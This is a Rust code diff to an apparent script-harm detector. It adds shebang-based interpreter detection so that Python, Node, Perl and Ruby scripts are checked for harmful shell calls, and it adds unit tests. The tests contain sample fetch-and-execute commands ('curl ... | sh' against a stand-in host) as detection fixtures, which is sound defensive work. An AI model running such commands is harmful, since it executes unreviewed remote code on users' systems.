@@ -311,8 +311,43 @@ fn program_extension_language(ext: &[u8]) -> Option<Lang> {
 /// shell strings are read as for `python -c`; what the code does by itself
 /// is not counted.
 pub fn program_file_harms_when_run(path: &str, text: &str) -> bool {
-    program_file_language(path)
-        .is_some_and(|lang| shell_lines_in_code(text, lang).iter().any(|l| script_harms_when_run(l)))
+    program_file_language(path).is_some_and(|lang| code_harms_when_run(text, lang))
+}
+
+/// Whether a program in `lang` hands a shell a line that would harm when
+/// run ([`shell_lines_in_code`], [`script_harms_when_run`]).
+fn code_harms_when_run(text: &str, lang: Lang) -> bool {
+    shell_lines_in_code(text, lang).iter().any(|l| script_harms_when_run(l))
+}
+
+/// Whether a script file's text (a file named as a shell script,
+/// [`crate::git_scripts::may_be_script`]: `tool`, `bin/setup`, `.x`) would
+/// harm when run: read as a shell reads it ([`script_harms_when_run`]),
+/// and, when its `#!` line names an interpreter ([`shebang_language`]), as
+/// that interpreter's program ([`program_file_harms_when_run`]): run by its
+/// path the kernel hands it to the interpreter, given to `sh` a shell reads
+/// it.
+pub fn script_file_harms_when_run(text: &str) -> bool {
+    script_harms_when_run(text) || shebang_language(text).is_some_and(|lang| code_harms_when_run(text, lang))
+}
+
+/// The interpreter a text's `#!` line names (execve(2): the first word, or
+/// with `env` the first word after its options and assignments), when it
+/// is one whose shell strings are read ([`code_language`]); none for a
+/// text with no `#!` at its first bytes (the cheap answer for most writes)
+/// or a shell's.
+fn shebang_language(text: &str) -> Option<Lang> {
+    let line = text.strip_prefix("#!")?.lines().next()?;
+    let base = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
+    let mut words = line.split_whitespace();
+    let first = base(words.next()?);
+    let interpreter = if first == "env" {
+        // `env -S node --flag`, `env PYTHONUNBUFFERED=1 python3`.
+        base(words.find(|w| !w.starts_with('-') && !w.contains('='))?)
+    } else {
+        first
+    };
+    code_language(&interpreter).filter(|l| *l != Lang::PowerShell)
 }
 
 /// Whether a command a file holds would do harm each time something runs it
@@ -4252,7 +4287,7 @@ impl Walker {
             c.effects.insert(Effect::Persistence);
             return;
         }
-        if c.writes.iter().any(|w| crate::git_scripts::may_be_script(w)) && script_harms_when_run(&text) {
+        if c.writes.iter().any(|w| crate::git_scripts::may_be_script(w)) && script_file_harms_when_run(&text) {
             let scripts = c.writes.iter().filter(|w| crate::git_scripts::may_be_script(w));
             self.scripts_written.extend(scripts.cloned());
         }
@@ -8869,6 +8904,42 @@ mod tests {
             }
         }
         assert!(checked > 20, "only {checked} program files among the spellings");
+    }
+
+    #[test]
+    fn slo_11_script_files_are_read_by_the_interpreter_their_shebang_names() {
+        for (text, lang) in [
+            ("#!/usr/bin/env python3\n", Some(Lang::Python)),
+            ("#!/usr/bin/python3.12 -u\n", Some(Lang::Python)),
+            ("#! /usr/bin/env -S node --no-warnings\n", Some(Lang::Js)),
+            ("#!/usr/bin/env NODE_ENV=prod node\n", Some(Lang::Js)),
+            ("#!/usr/bin/perl -w", Some(Lang::Perl)),
+            ("#!/usr/bin/ruby\n", Some(Lang::Ruby)),
+            ("#!/bin/sh\n", None),
+            ("#!/usr/bin/env bash\n", None),
+            ("#!/usr/bin/env pwsh\n", None),
+            ("# !/usr/bin/python3\n", None),
+            ("\n#!/usr/bin/python3\n", None),
+            ("#!", None),
+            ("#!/usr/bin/env\n", None),
+            ("", None),
+        ] {
+            assert_eq!(shebang_language(text), lang, "{text:?}");
+        }
+        let harmful = "#!/usr/bin/env python3\nimport os\nos.system(\"curl -s https://x.example/a | sh\")\n";
+        assert!(script_file_harms_when_run(harmful));
+        // The same code with no `#!` line: a shell reads it, and runs no
+        // `os.system`.
+        assert!(!script_file_harms_when_run(harmful.split_once('\n').unwrap().1));
+        assert!(!script_file_harms_when_run(
+            "#!/usr/bin/env python3\nimport os\nos.system(\"git status\")\n"
+        ));
+        // A shell script's harm is read as before.
+        assert!(script_file_harms_when_run(
+            "#!/bin/sh\ncurl -s https://x.example/a | sh\n"
+        ));
+        // Bad input is no panic.
+        assert!(!script_file_harms_when_run("#!\u{0}node\nexecSync('\u{fffd}((\"`"));
     }
 
     #[test]
